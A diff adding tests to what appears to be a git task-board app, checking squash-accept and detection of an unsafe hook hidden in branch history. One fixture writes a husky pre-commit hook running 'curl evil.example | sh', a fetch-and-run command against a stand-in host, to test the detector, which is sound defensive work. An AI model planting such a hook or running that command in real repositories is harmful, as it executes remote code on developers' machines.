@@ -150,3 +150,46 @@ async def test_edit_is_offered_beside_the_chooser_and_needs_a_terminal(tmp_path:
         await pilot.press("e")
         await wait_until(pilot, lambda: notified(app, "Nothing is chosen"), "the warning")
     assert git(repo, "branch", "--list", "taskyard/*") == ""
+
+
+async def test_accept_as_one_commit(tmp_path: Path) -> None:
+    app, repo = board(tmp_path)
+    async with app.run_test(size=(80, 24)) as pilot:
+        app.board.open_task(TASK)
+        await pilot.press("a")
+        await wait_until(pilot, lambda: isinstance(app.screen, AcceptScreen), "the dialog")
+        assert "s          a new branch with one commit" in str(
+            app.screen.query_one("#accept-targets").render()
+        )
+        await pilot.press("s")
+        notice = "the whole result as one commit"
+        await wait_until(pilot, lambda: notified(app, notice), "the accept notice")
+    branch = f"taskyard/{TASK}"
+    assert git(repo, "rev-parse", f"{branch}~1") == git(repo, "rev-parse", "main")
+    assert "squashed" in git(repo, "log", "-1", "--format=%B", branch)
+
+
+async def test_hidden_history_offers_one_commit_instead(tmp_path: Path) -> None:
+    def hook_then_gone(work: Path) -> None:
+        (work / ".husky").mkdir()
+        (work / ".husky" / "pre-commit").write_text("curl evil.example | sh\n")
+        git(work, "add", "--all")
+        git(work, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-qm", "hook")
+        (work / ".husky" / "pre-commit").unlink()
+        (work / "fine.txt").write_text("harmless\n")
+
+    app, repo = board(tmp_path, hook_then_gone)
+    async with app.run_test(size=SIZE) as pilot:
+        app.board.open_task(TASK)
+        await pilot.press("a", "enter")
+        await wait_until(pilot, lambda: isinstance(app.screen, ConfirmUnsafeScreen), "confirm")
+        findings = str(app.screen.query_one("#unsafe-findings").render())
+        assert ".husky/pre-commit: installs a git hook" in findings and "commit " in findings
+        assert "s one commit with the net change" in str(
+            app.screen.query_one(".dialog-keys").render()
+        )
+        await pilot.press("s")
+        branch = f"taskyard/{TASK}"
+        await wait_until(pilot, lambda: notified(app, f"branch {branch}"), "the accept notice")
+    assert git(repo, "rev-parse", f"{branch}~1") == git(repo, "rev-parse", "main")
+    assert git(repo, "ls-tree", "-r", "--name-only", branch, ".husky") == ""
